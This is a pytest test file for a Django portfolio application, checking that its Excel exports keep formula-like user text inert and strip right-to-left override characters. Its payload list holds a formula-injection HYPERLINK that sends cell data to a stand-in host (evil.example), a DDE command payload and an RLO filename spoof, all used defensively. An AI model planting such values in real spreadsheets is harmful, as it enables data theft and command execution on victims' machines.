"""Exported workbooks are inert: user text that looks like a formula stays visible text.

Each formula form (OWASP's =, +, -, @, tab, carriage return) is planted in the text the
exports carry and every workbook is downloaded through its page; no cell of any sheet
may be a formula, and text that a spreadsheet would evaluate once edited carries
Excel's quote prefix, so it shows as written and stays text.
"""

import datetime as dt
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from accounts.models import Role
from portfolio.excel.book_export import portfolio_workbook_bytes
from portfolio.excel.book_import import portfolio_import
from portfolio.excel.book_preview import portfolio_preview
from portfolio.excel.entries_import import entries_import
from portfolio.excel.exports import entries_workbook_bytes, initiatives_workbook_bytes
from portfolio.excel.writer import FORMULA_STARTS
from portfolio.models import CostEntry, Initiative, Portfolio, Program, TimeEntry
from portfolio.services.costs import cost_entry_create, time_entry_create
from portfolio.services.initiatives import initiative_create
from portfolio.services.participation import participation_answer, participation_invite
from reports.models import ReportJob
from tests import factories

pytestmark = pytest.mark.django_db

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A2,"x")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
]
RLO = "\u202e"


def _participate(coordinator, initiative, code):
    participation = initiative.participations.filter(municipality__code=code).first()
    if participation is None:
        participation = participation_invite(
            actor=coordinator, initiative=initiative, municipality=factories.municipality(code)
        )
    participation_answer(
        actor=factories.user(code, Role.DIRECTOR),
        participation=participation,
        version=participation.version,
        answer="deltar",
        joined_on=dt.date(2025, 1, 1),
    )


@pytest.fixture
def world(db):
    portfolio = factories.portfolio()
    coordinator = factories.user("1460", Role.COORDINATOR)
    program = factories.program(portfolio)
    initiative = initiative_create(
        actor=coordinator, portfolio=portfolio, title="Växel", program=program
    )
    _participate(coordinator, initiative, "1460")
    cost_entry_create(
        actor=coordinator,
        initiative=initiative,
        kind="utveckling",
        nature="utfall",
        period=dt.date(2026, 3, 31),
        amount=120_000,
        paid_by=factories.municipality("1460"),
        description="Konsult",
    )
    time_entry_create(
        actor=coordinator,
        initiative=initiative,
        municipality=factories.municipality("1460"),
        period=dt.date(2026, 3, 31),
        hours="7.5",
        role="Projektledare",
        description="Möten",
    )
    return portfolio, coordinator, Initiative.objects.get(pk=initiative.pk)


def _plant(portfolio, initiative, text):
    """Hostile text everywhere a user can write text that an export carries."""
    Portfolio.objects.filter(pk=portfolio.pk).update(name=text)
    Program.objects.filter(pk=initiative.program_id).update(name=text)
    Initiative.objects.filter(pk=initiative.pk).update(
        title=text,
        registration_number=text[:40],  # the field's length
        need=text,
        expected_benefit=text,
        operation_owner=text,
        implementation_plan=text,
    )
    CostEntry.objects.filter(initiative=initiative).update(description=text)
    TimeEntry.objects.filter(initiative=initiative).update(role=text, description=text)


def _workbooks(portfolio, initiative, payload):
    """(address, query) of every workbook the product writes that carries user text."""
    yield reverse("portfolio:initiative-export-xlsx", args=[portfolio.pk]), {}
    yield reverse("portfolio:entries-export-xlsx", args=[portfolio.pk]), {}
    # The initiatives template lists the portfolio's programs; the entries template only
    # municipality names, which users do not write.
    yield reverse("portfolio:excel-template", args=[portfolio.pk, "initiativ"]), {}
    yield reverse("portfolio:economy-portfolio-xlsx", args=[portfolio.pk]), {"period": "2026H1"}
    yield reverse("portfolio:economy-program-xlsx", args=[initiative.program_id]), {}
    yield reverse("portfolio:economy-initiative-xlsx", args=[initiative.pk]), {}
    yield reverse("portfolio:settlement-xlsx", args=[portfolio.pk]), {"period": "2026H1"}
    yield (
        reverse("portfolio:scenarios-xlsx", args=[portfolio.pk]),
        {"belopp": "1000", "kommun": ["1460", "1492"], "egen_namn": payload},
    )


def _cells(content: bytes):
    workbook = load_workbook(io.BytesIO(content))
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            yield from row


def assert_inert(content: bytes, payload: str, where: str) -> None:
    shown = []
    for cell in _cells(content):
        assert cell.data_type != "f", f"{where} {cell.coordinate}: formula {cell.value!r}"
        if isinstance(cell.value, str):
            shown.append(cell.value)
            assert RLO not in cell.value, f"{where} {cell.coordinate}"
            if cell.value.startswith(FORMULA_STARTS):
                assert cell.quotePrefix, f"{where} {cell.coordinate}: {cell.value!r} unquoted"
    # XML reads a carriage return in text as a line feed; openpyxl and Excel alike.
    visible = payload.replace("\r", "\n")
    assert any(visible in value for value in shown), f"{where}: {payload!r} not shown"


@pytest.mark.parametrize("payload", PAYLOADS)
def test_every_downloaded_workbook_shows_formula_text_as_inert_text(client, world, payload):
    portfolio, coordinator, initiative = world
    _plant(portfolio, initiative, payload)
    client.force_login(coordinator)
    for url, query in _workbooks(portfolio, initiative, payload):
        response = client.get(url, query)
        assert response.status_code == 200, url
        assert_inert(response.content, payload, url)


def test_numbers_and_dates_stay_numbers_and_dates(client, world):
    portfolio, coordinator, initiative = world
    _plant(portfolio, initiative, "-1+1")
    client.force_login(coordinator)
    response = client.get(reverse("portfolio:entries-export-xlsx", args=[portfolio.pk]))
    costs = load_workbook(io.BytesIO(response.content))["Kostnader"]
    period, amount = costs[2][4], costs[2][5]
    assert amount.value == 120_000 and amount.data_type == "n" and not amount.quotePrefix
    assert period.is_date and period.value.date() == dt.date(2026, 3, 31)


def test_a_right_to_left_override_is_not_written(world):
    portfolio, _coordinator, initiative = world
    _plant(portfolio, initiative, f"Bild {RLO}gnp.exe")
    content = initiatives_workbook_bytes(Initiative.objects.filter(pk=initiative.pk))
    assert "Bild gnp.exe" in [cell.value for cell in _cells(content)]
    assert_inert(content, "Bild gnp.exe", "initiatives")


@pytest.mark.parametrize("payload", [*PAYLOADS, "-Minus"])
def test_exported_text_imports_back_as_it_was_written(world, payload):
    portfolio, coordinator, initiative = world
    _plant(portfolio, initiative, payload)
    Program.objects.filter(pk=initiative.program_id).update(name="Effektiv kommun")
    # Another portfolio's numbers are unknown to the initiatives import; an initiative
    # moves to another portfolio through the portfolio workbook, which keeps them.
    exported = portfolio_workbook_bytes(Initiative.objects.filter(pk=initiative.pk))

    other = factories.portfolio(group=portfolio.constellation)
    Program.objects.create(portfolio=other, name="Effektiv kommun")
    preview = portfolio_preview(actor=coordinator, portfolio=other, content=exported)
    assert preview.is_valid, [r.as_dict().get("errors") for r in preview.rows]
    portfolio_import(actor=coordinator, portfolio=other, content=exported)
    copy = Initiative.objects.get(portfolio=other)
    # The importer trims surrounding whitespace from every cell, as it always has.
    assert copy.title == payload.strip()
    assert copy.registration_number == payload[:40].strip()
    assert copy.need == payload.strip()


@pytest.mark.parametrize("payload", ["=1+1", "-Minus", "@SUM(A1)"])
def test_exported_entries_import_back_unchanged(world, payload):
    portfolio, coordinator, initiative = world
    _plant(portfolio, initiative, "Växel")
    CostEntry.objects.update(description=payload)
    TimeEntry.objects.update(role=payload, description=payload)
    exported = entries_workbook_bytes(Initiative.objects.filter(pk=initiative.pk))
    for kind in ("costs", "time"):
        result = entries_import(actor=coordinator, portfolio=portfolio, kind=kind, content=exported)
        assert (result.created, result.unchanged) == (0, 1), kind


@pytest.mark.parametrize("name", ["+1+1", "-Minus", f"Bild {RLO}gnp.exe"])
def test_the_template_offers_no_pick_list_with_formula_like_or_reversed_text(client, world, name):
    portfolio, coordinator, initiative = world
    Program.objects.filter(pk=initiative.program_id).update(name=name)
    client.force_login(coordinator)
    response = client.get(reverse("portfolio:excel-template", args=[portfolio.pk, "initiativ"]))
    sheet = load_workbook(io.BytesIO(response.content))["Initiativ"]
    lists = [v.formula1 for v in sheet.data_validations.dataValidation]
    assert lists, "the other columns still have their lists"
    assert not any(name in formula for formula in lists)


@pytest.mark.parametrize("route", ["initiative-export-xlsx", "entries-export-xlsx"])
def test_a_workbook_made_by_a_background_job_is_inert_too(
    client, world, settings, tmp_path, django_capture_on_commit_callbacks, route
):
    settings.MEDIA_ROOT = tmp_path
    settings.EXCEL_SYNC_EXPORT_MAX_ROWS = 0  # every export becomes a job
    portfolio, coordinator, initiative = world
    payload = "=cmd|' /C calc'!A0"
    _plant(portfolio, initiative, payload)
    client.force_login(coordinator)
    with django_capture_on_commit_callbacks(execute=True):
        response = client.get(reverse(f"portfolio:{route}", args=[portfolio.pk]))
    assert response.status_code == 302
    job = ReportJob.objects.get()
    download = client.get(reverse("reports:download", args=[job.pk]))
    assert_inert(b"".join(download.streaming_content), payload, route)
